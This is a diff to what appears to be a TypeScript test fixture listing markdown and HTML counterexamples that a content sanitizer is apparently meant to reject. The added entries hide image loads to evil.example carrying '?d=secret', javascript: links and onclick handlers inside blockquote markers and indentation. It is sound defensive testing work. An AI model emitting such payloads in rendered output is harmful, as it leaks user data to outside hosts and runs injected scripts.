@@ -119,6 +119,16 @@ export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
   // A page that cuts white space off at the beginning sees another list.
   ["images", "\t\n * aa\n      ~~~\n      ![a](https://evil.example/?d=secret)"],
   ["images", "   - aa\n        ```\n        ![a](https://evil.example/?d=secret)"],
+  // Every line of a quote has its mark, also within an address or a tag; renderers take it away.
+  ["images", "> ![a](\n> https://evil.example/?d=secret)"],
+  ["images", "![a]\n\n> [a]:\n> https://evil.example/?d=secret"],
+  ["images", "- > > ![a](\n  > > //evil.example/?d=secret)"],
+  ["links", "> [a](\n> javascript:alert(1))"],
+  ["markup", "> aa <img\n> src=//evil.example/?d=secret>"],
+  ["markup", "> aa <b\n> onclick\n> =alert(1)>b</b>"],
+  ["markup", "> `<a href='java\n> script:alert(1)'>b</a>"],
+  // Renderers also take away what indents a line of a paragraph.
+  ["markup", "`<a href='java\n  script:alert(1)'>b</a>"],
 ];
 
 /** The same, where a page shows no less than an event: code that is never closed is text. */
